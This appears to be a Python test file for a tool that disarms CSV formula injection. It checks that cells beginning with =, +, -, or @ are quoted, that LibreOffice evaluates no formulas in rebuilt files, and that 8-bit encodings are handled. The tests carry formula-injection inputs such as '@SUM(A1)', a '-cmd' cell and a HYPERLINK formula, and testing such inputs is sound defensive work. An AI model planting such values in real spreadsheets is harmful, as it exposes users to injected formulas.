def test_libreoffice_evaluates_none_of_them(tmp_path: Path) -> None:
    """The same files through LibreOffice Calc (its default import, and tab, comma and
    semicolon): no formula in what it reads from the rebuilt files; from the
    originals, the formula."""
    import subprocess
    import zipfile

    from tests.support import require_tool

    soffice = require_tool("soffice", "libreoffice-calc-nogui")
    originals, rebuilt = tmp_path / "originals", tmp_path / "rebuilt"
    originals.mkdir()
    rebuilt.mkdir()
    for name, text in LIBREOFFICE_QUOTING.items():
        work = tmp_path / name
        work.mkdir()
        request = _request(work, text.encode())
        assert _disarm(request).outcome == "rebuilt"
        (originals / f"{name}.csv").write_text(text)
        (rebuilt / f"{name}.csv").write_bytes(request.destination.read_bytes())

    def formulas(folder: Path, infilter: str) -> dict[str, bool]:
        out = folder / f"out-{infilter.replace('/', '_')}"
        subprocess.run(
            [soffice, f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless"]
            + ["--norestore", f"--infilter={infilter}", "--convert-to", "xlsx"]
            + ["--outdir", str(out), *map(str, sorted(folder.glob("*.csv")))],
            capture_output=True,
            timeout=300,
            check=False,
        )
        found = {}
        for name in LIBREOFFICE_QUOTING:
            sheet = zipfile.ZipFile(out / f"{name}.xlsx").read("xl/worksheets/sheet1.xml")
            found[name] = b"<f>" in sheet or b"<f " in sheet
        return found

    for infilter in ("CSV:44/59/9,34,76,1", "CSV:44,34,76,1"):
        assert not any(formulas(rebuilt, infilter).values()), infilter
    assert all(formulas(originals, "CSV:44/59/9,34,76,1").values())  # (each shape)


@pytest.mark.parametrize("cell", ["-1", "=1"])
def test_a_column_of_formula_cells_costs_a_few_times_the_file(tmp_path: Path, cell: str) -> None:
    """A CSV of negative numbers took 40 times its size in memory (a list of offsets,
    then a piece of text per cell): 25 MB of them ran out of a worker's 1 GiB."""
    import tracemalloc

    data = (f"{cell},{cell},{cell}\n" * 200_000).encode()
    request = _request(tmp_path, data)
    tracemalloc.start()
    try:
        result = _disarm(request)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert result.outcome == "rebuilt" and result.actions[0].detail == "600000 cells"
    assert peak < 8 * len(data), peak / len(data)
    assert request.destination.read_bytes() == data.replace(cell.encode(), b"'" + cell.encode())


def test_a_space_before_an_equals_sign_is_seen_however_many_there_are(tmp_path: Path) -> None:
    """LibreOffice's reading counts a space before a cell's "=": its first search
    did, the one for texts full of "=" (taken past a budget) did not, and the file
    went out as it came."""
    text = "k,a=b=c=d\n" * 2000 + "bob, =21*2\n"
    request = _request(tmp_path, text.encode())
    result = _disarm(request)
    assert result.outcome == "rebuilt", result
    assert request.destination.read_text().endswith("bob, '=21*2\n")


#: A CSV file as Excel saves it in the Windows code page (not UTF-8).
_CP1252 = "Nom;Ville;Montant\nCafé Crème;Orléans;=1+1\nZoë;Besançon;-2\n".encode("cp1252")


def test_text_in_an_8_bit_charset_is_rebuilt_byte_for_byte(tmp_path: Path) -> None:
    """A CSV file in the Windows code page (what Excel writes by default), or Shift-JIS
    text, was refused as not UTF-8. Now the bytes stay as they were, and only what the
    engine inserts is new."""
    result = _disarm(request := _request(tmp_path, _CP1252, CSV))
    assert result.outcome == "rebuilt", result
    assert request.destination.read_bytes() == _CP1252.replace(b";=1+1", b";'=1+1").replace(
        b";-2", b";'-2"
    )
    japanese = "日本語のメモ\n価格=100円\n".encode("shift_jis")
    for kind in (TEXT, CSV):
        assert _disarm(_request(tmp_path, japanese, kind)).outcome in ("unmodified", "rebuilt")


@pytest.mark.parametrize("data", [b"a,b\n\xff\xfe=1+1\n", b"a;\xe9-cmd\n", b'"a","\xa0@SUM(A1)"\n'])
def test_bytes_over_0x7f_before_a_formula_are_refused_in_8_bit_csv(
    tmp_path: Path, data: bytes
) -> None:
    """A reader that drops the bytes it cannot decode (reading as UTF-8) would see
    the formula: such a file is not delivered."""
    request = _request(tmp_path, data, CSV)
    result = _disarm(request)
    assert result.outcome == "unprocessable" and "formula character" in result.reason
    assert not request.destination.exists()
    # as plain text (not opened by a spreadsheet) it is delivered as it is
    assert _disarm(_request(tmp_path, data, TEXT)).outcome == "unmodified"


def test_a_sep_line_naming_a_byte_over_0x7f_is_refused_in_8_bit_csv(tmp_path: Path) -> None:
    """Shift-JIS readers take 0x83 and the line break after it as one character: the
    delimiter the file names is then no delimiter, and Excel's own splits the cells."""
    request = _request(tmp_path, b"sep=\x83\na\x83b,+1\n", CSV)
    result = _disarm(request)
    assert result.outcome == "unprocessable" and "sep=" in result.reason
    assert _disarm(_request(tmp_path, b"sep=;\nCaf\xe9;+1\n", CSV)).outcome == "rebuilt"


def test_csv_with_quotes_is_rewritten_without_holding_every_record(tmp_path: Path) -> None:
    # A large export whose cells hold quotes (=HYPERLINK("..."), 5" pipes) is read
    # record by record. Every record's cells were held until the rewrite: 10 MB took
    # 445 MB, so larger exports ran into the worker's 1 GiB limit and were blocked.
    # Now a batch of records at a time; the memory Python allocates at its peak
    # stays within a small multiple of the file (measured 7.5x; it was 40x).
    from tests.support import disarm_job

    line = '=A1,@x,+1,-2,text,=HYPERLINK("http://x"),plain,plain,plain,plain\n'
    data = (line * (2_000_000 // len(line))).encode()
    disarm_job(tmp_path, b"a,b\n=1,2\n", "warm-up.csv")  # (engines loaded before measuring)
    tracemalloc.start()
    try:
        answer, out = disarm_job(tmp_path, data, "export.csv")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert answer["outcome"] == "rebuilt", answer
    rewritten = b'\'=A1,\'@x,\'+1,\'-2,text,"\'=HYPERLINK(""http://x"")",plain,plain,plain,plain\n'
    assert out == rewritten * (len(data) // len(line))
    assert peak < 15 * len(data), peak
